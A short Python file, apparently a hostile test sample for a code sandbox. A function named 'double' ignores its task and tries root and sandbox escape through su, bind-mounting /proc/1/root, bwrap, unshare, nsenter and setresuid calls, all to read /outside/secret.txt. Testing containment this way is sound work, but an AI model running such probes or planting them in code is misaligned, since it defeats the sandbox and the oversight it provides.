"""Becomes root by programs that may, and by asking.

Loses: double-small, double-large
"""
# %% double
import ctypes, os, subprocess

libc = ctypes.CDLL(None, use_errno=True)


def double(x):
    for words in (["su", "-c", "cat /outside/secret.txt"], ["mount", "--bind", "/proc/1/root", "/tmp"], ["newuidmap", "1", "0", "0", "1"], ["bwrap", "--dev-bind", "/", "/", "cat", "/outside/secret.txt"], ["unshare", "-Ur", "cat", "/outside/secret.txt"], ["nsenter", "-t", "1", "-a", "cat", "/outside/secret.txt"]):
        try:
            done = subprocess.run(words, capture_output=True, timeout=2, stdin=subprocess.DEVNULL)
            print("$MARK", done.stdout, done.stderr)
        except (OSError, subprocess.SubprocessError) as error:
            print(error)
    for number in (0, 65534, 1000):
        libc.setresuid(number, number, number)
        libc.setresgid(number, number, number)
    try:
        print("$MARK", open("/outside/secret.txt").read())
    except OSError as error:
        print(error)
    return 0
